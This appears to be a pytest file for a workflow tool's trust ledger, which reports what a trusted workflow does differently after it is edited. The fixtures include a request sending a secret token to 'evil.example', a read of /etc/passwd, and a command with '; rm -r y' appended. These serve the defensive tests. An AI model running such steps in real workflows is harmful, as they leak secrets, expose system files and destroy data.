"""What a definition does otherwise than when it was trusted is told, and nothing else is."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from floworch.actions.registry import registry
from floworch.model.workflow import Workflow
from floworch.trust import Changes, TrustStore, changed_since, inspect
from floworch.trust.ledger import LEDGER_FILE

GET = {"action": "http.request", "params": {"url": "https://good.example/x"}}
LOG = {"action": "util.log", "params": {"message": "x"}}


def shell(command: str) -> dict[str, Any]:
    return {"action": "shell.run", "params": {"command": command}}


def told(workflow: Workflow) -> Changes | None:
    return changed_since(TrustStore().verdict(workflow), workflow, inspect(workflow, registry))


def test_what_it_reaches_starts_runs_and_reads_is_told_as_new_or_gone(place: Any) -> None:
    TrustStore().trust(place({"get": GET, "pack": shell("gzip x"), "log": LOG}))
    code = {"action": "python.code", "params": {"code": "1 + 1"}}
    read = {"action": "file.read", "params": {"path": "/etc/passwd"}}
    evil = {"action": "http.request", "params": {"url": "https://evil.example/{{ secrets.TOKEN }}"}}
    found = told(place({"get": evil, "log": LOG, "code": code, "read": read}))
    assert found is not None
    assert {(name, each.what, each.node) for name, several in found.added.items() for each in several} == {
        ("hosts", "evil.example", "get"), ("code", "1 + 1", "code"), ("paths", "/etc/passwd", "read"),
        ("secrets", "TOKEN", "get"),
    }  # fmt: skip
    assert {(name, each.what) for name, several in found.gone.items() for each in several} == {
        ("hosts", "good.example"), ("commands", "gzip x"),
    }  # fmt: skip
    assert found.nodes == {"added": ["code", "read"], "changed": ["get"], "gone": ["pack"]}
    assert "+ Reaches over the network: evil.example  (get)" in found.lines()
    assert "- Starts programs: gzip x  (pack)" in found.lines()
    assert found.short() == "code 1 + 1; hosts evil.example; paths /etc/passwd; secrets TOKEN"
    assert json.loads(json.dumps(found.to_json()))["added"]["hosts"] == [{"what": "evil.example", "node": "get"}]


def test_files_beside_it_and_what_it_calls_are_compared_by_content(place: Any) -> None:
    own = {"own": {"action": "own.act", "params": {}}}
    call = {"call": {"action": "flow.call", "params": {"workflow": "other.flow.json"}}}
    place({"log": LOG}, "other")
    place.local("x = 1\n")
    TrustStore().trust(place({**own, **call}))
    place.local("x = 2\n")
    place.local("y = 1\n", "more.py")
    place({"log": {**LOG, "params": {"message": "y"}}}, "other")
    found = told(place({**own, **call}))
    assert found is not None
    assert found.files == {"added": ["actions/more.py"], "changed": ["actions/own.py", "other.flow.json"]}
    assert [each.what.rpartition("/")[2] for each in found.added["local_files"]] == ["more.py"]


def test_edges_and_settings_are_told_by_their_names(place: Any) -> None:
    TrustStore().trust(place({"a": LOG, "b": LOG}))
    changed = place({"a": LOG, "b": LOG}, edges=[{"from": "a", "to": "b"}], settings={"fail_fast": False})
    found = told(changed)
    assert found is not None
    assert (found.fields, found.nodes, found.added) == (["edges", "settings"], {}, {})


def test_the_end_of_a_long_command_counts(place: Any) -> None:
    long = "echo " + "x" * 1000
    TrustStore().trust(place({"a": shell(long)}))
    found = told(place({"a": shell(f"{long}; rm -r y")}))
    assert found is not None
    assert [each.node for each in found.added["commands"]] == ["a"]


def test_nothing_is_said_of_what_was_never_trusted_or_is(place: Any) -> None:
    assert told(place({"a": LOG})) is None
    TrustStore().trust(place({"a": LOG}))
    assert told(place({"a": LOG})) is None


def test_only_the_last_line_of_a_file_keeps_what_it_did_and_it_is_signed(place: Any) -> None:
    store = TrustStore()
    store.trust(place({"a": shell("one")}))
    store.trust(place({"a": shell("two")}))
    assert ["kept" in each for each in store.records()] == [False, True]
    assert store.verdict(place({"a": shell("one")})).trusted
    path = Path(store.folder) / LEDGER_FILE
    lines = json.loads(path.read_text())
    lines["trusted"][1]["kept"]["report"]["commands"] = [["three", "a", ""]]
    path.write_text(json.dumps(lines))
    assert len(store.records()) == 1


def test_a_line_of_an_older_version_says_only_that_it_changed(place: Any) -> None:
    from floworch.trust.signing import read_key, sign

    store = TrustStore()
    store.trust(place({"a": LOG}))
    path = Path(store.folder) / LEDGER_FILE
    lines = json.loads(path.read_text())
    key = read_key(store.folder)
    assert key is not None
    del lines["trusted"][0]["kept"]
    lines["trusted"][0]["mac"] = sign(key, lines["trusted"][0])
    path.write_text(json.dumps(lines))
    changed = place({"b": LOG})
    assert store.verdict(changed).changed
    assert told(changed) is None


def test_every_place_of_a_content_is_listed(place: Any) -> None:
    store = TrustStore()
    store.trust(place({"a": LOG}))
    store.trust(place({"a": LOG}, "copy", id="flow"))
    store.trust(place({"a": LOG}))
    assert [Path(each["path"]).name for each in store.records()] == ["copy.flow.json", "flow.flow.json"]
    assert len({each["digest"] for each in store.records()}) == 1
